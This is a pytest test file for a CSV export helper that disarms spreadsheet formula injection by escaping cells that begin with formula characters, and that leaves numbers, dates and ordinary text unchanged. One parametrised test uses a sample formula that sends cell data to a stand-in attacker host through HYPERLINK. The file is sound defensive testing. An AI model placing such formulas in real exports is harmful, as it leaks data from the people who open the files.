import csv
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from creditsite.csvfiles import csv_lines


def written(*values):
    """Return the cells of a row as whoever opens the file reads them."""
    _, row = csv.reader(csv_lines(["value"] * len(values), [values]))
    return row


class TestCsvLines:
    @pytest.mark.parametrize(
        "start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
    )
    def test_disarms_a_formula(self, start):
        formula = f'{start}HYPERLINK("http://evil.example/?"&A1)'
        assert written(formula, f"  {formula}") == [f"'{formula}", f"'  {formula}"]

    def test_leaves_numbers_numbers(self):
        assert written(-5, 0, Decimal("-0.10")) == ["-5", "0", "-0.10"]

    def test_takes_text_that_looks_like_a_number_for_text(self):
        assert written("-5", "+49 170 123") == ["'-5", "'+49 170 123"]

    @pytest.mark.parametrize("text", ["", "plain", "a=b", 'say "no"', "two\nlines", "é, 李", "'q'"])
    def test_leaves_other_text_as_it_is(self, text):
        assert written(text) == [text]

    def test_writes_instants_and_nothing(self):
        assert written(datetime(2026, 1, 31, 9, 30, tzinfo=UTC), None, True) == [
            "2026-01-31T09:30:00+00:00",
            "",
            "True",
        ]

    def test_disarms_the_header_too(self):
        assert next(csv_lines(["=1+1"], [])) == "'=1+1\r\n"

    def test_yields_each_line_when_it_is_asked_for(self):
        lines = csv_lines(["n"], ([n] for n in iter(range(10**9))))
        assert [next(lines) for _ in range(3)] == ["n\r\n", "0\r\n", "1\r\n"]
